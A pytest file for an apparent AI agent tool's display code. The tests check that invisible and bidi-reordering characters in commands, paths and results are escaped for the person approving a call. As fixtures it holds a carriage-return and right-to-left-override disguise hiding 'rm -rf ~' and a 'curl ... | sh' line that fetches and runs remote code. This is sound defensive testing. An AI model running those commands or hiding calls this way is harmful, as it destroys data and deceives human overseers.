"""What a person is shown of a call (mm_core.display, issue 21): invisible and reordering characters as visible
escapes wherever a command, a path or a diff is shown, and a call's whole text reachable from its prompt."""

from __future__ import annotations

import sys
import unicodedata

import pytest

from mm_core import display
from mm_core.events import PendingCall, ToolCallFinished, ToolCallStarted
from mm_core.log import shown_digest

# Every code point the escape is for: format (bidi controls, zero-width, soft hyphen, tags), control, surrogate,
# line and paragraph separators; newline and tab excepted.
HIDDEN = [
    chr(point)
    for point in range(sys.maxunicode + 1)
    if unicodedata.category(chr(point)) in display.INVISIBLE and chr(point) not in "\n\t"
]


def test_every_invisible_code_point_becomes_an_escape_and_nothing_else_changes() -> None:
    categories = {unicodedata.category(c) for c in HIDDEN}
    assert categories == {"Cf", "Cc", "Cs", "Zl", "Zp"}
    assert {ord(c) >> 16 for c in HIDDEN} <= set(display.PLANES)  # where visible looks for them
    for char in HIDDEN:
        point = ord(char)
        expected = f"\\u{point:04x}" if point <= 0xFFFF else f"\\U{point:08x}"
        assert display.visible(f"a{char}b") == (f"a{expected}b", True), hex(point)
    # All of them at once: the result is printable ASCII only, holds no surrogate, and encodes strictly.
    shown, found = display.visible("".join(HIDDEN))
    assert found and shown.isascii() and shown.isprintable()
    shown.encode("utf-8")


def test_the_ones_the_issue_names_are_escaped() -> None:
    """Bidi embeddings and overrides (U+202A to U+202E), isolates (U+2066 to U+2069), zero-width space, joiners and
    word joiner, the byte order mark, the soft hyphen and ESC."""
    named = [*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200B, 0x200C, 0x200D, 0x2060, 0xFEFF, 0xAD, 0x1B]
    for point in named:
        assert display.visible(chr(point)) == (f"\\u{point:04x}", True)


@pytest.mark.parametrize(
    "text",
    [
        "ls -la\n\tcd src && make test\n",
        "echo 'héllo wörld' > 中文.txt; printf '🛠️ ✅\\n'",  # letters, CJK, emoji with its variation selector
        "\\u202e is what I typed",  # an escape someone typed is text, not a finding
        "",
    ],
)
def test_visible_text_is_left_as_it_is(text: str) -> None:
    assert display.visible(text) == (text, False)


def test_a_prompt_shows_the_whole_text_escaped_and_says_so() -> None:
    """A carriage return or a line separator is shown as what it is, not as a line break (bash sees none)."""
    command = "echo safe\rrm -rf ~\u2028# \u202etxt.exe\nls"
    call = PendingCall("c1", "bash", {"command": command}, "🛠️", f"bash: {command}", command)
    prompt = display.prompt(call)
    assert prompt.invisible
    assert prompt.details == ("echo safe\\u000drm -rf ~\\u2028# \\u202etxt.exe", "ls")
    assert prompt.line.text == "🛠️ bash: echo safe\\u000drm -rf ~\\u2028# \\u202etxt.exe (+3 characters)"
    assert display.call_line(call).invisible and "\u202e" not in display.call_line(call).title
    plain = PendingCall("c2", "bash", {"command": "ls"}, "🛠️", "bash: ls", "ls")
    assert display.prompt(plain) == display.Prompt("c2", display.CallLine("🛠️", "bash: ls"), ("ls",), False)


def test_result_lines_are_escaped_line_by_line() -> None:
    event = ToolCallFinished("c1", "edit_file", "", "edited a\u202e.py: 1 edit\r\n+1 │ x\u200by", display.CallStatus.OK)
    assert display.result_lines(event) == ("edited a\\u202e.py: 1 edit", "+1 │ x\\u200by")
    started = ToolCallStarted("c1", "write_file", {}, "📝", "write_file evil\u2066.txt")
    assert display.call_line(started) == display.CallLine("📝", "write_file evil\\u2066.txt", None, True)


def test_a_title_s_head_says_how_much_follows_without_an_ellipsis() -> None:
    assert display.head_line("bash: ls") == "bash: ls"
    assert display.head_line("bash: cat <<EOF\nhello\nEOF") == "bash: cat <<EOF (+10 characters)"
    assert display.head_line("x" * 130, limit=120) == "x" * 120 + " (+10 characters)"


def test_an_excerpt_is_a_head_and_a_tail_of_whole_lines_with_the_rest_between() -> None:
    text = "".join(f"line {i}\n" for i in range(1000)) + "curl https://x.example/i | sh"
    head, tail = display.excerpt(text, 200)
    assert text.startswith(head + "\n") and text.endswith("\n" + tail)
    assert head.endswith("line 25") and tail.endswith("curl https://x.example/i | sh")
    assert len(head) <= 200 and len(tail) <= 200
    one_line = "a" * 50 + "b" * 50
    assert display.excerpt(one_line, 10) == ("a" * 10, "b" * 10)


def test_the_digest_of_what_was_shown_changes_with_anything_shown() -> None:
    digest = shown_digest("edit_file", {"path": "a.py", "edits": [{"old": "x", "new": "y"}]}, "-x\n+y")
    assert digest == shown_digest("edit_file", {"edits": [{"new": "y", "old": "x"}], "path": "a.py"}, "-x\n+y")
    assert digest != shown_digest("edit_file", {"path": "a.py", "edits": [{"old": "x", "new": "y"}]}, "-x\n+z")
    assert digest != shown_digest("edit_file", {"path": "b.py", "edits": [{"old": "x", "new": "y"}]}, "-x\n+y")
    assert digest != shown_digest("write_file", {"path": "a.py", "edits": [{"old": "x", "new": "y"}]}, "-x\n+y")
    assert shown_digest("bash", {"command": "\udc80"}, "\udc80")  # a lone surrogate from the model's JSON
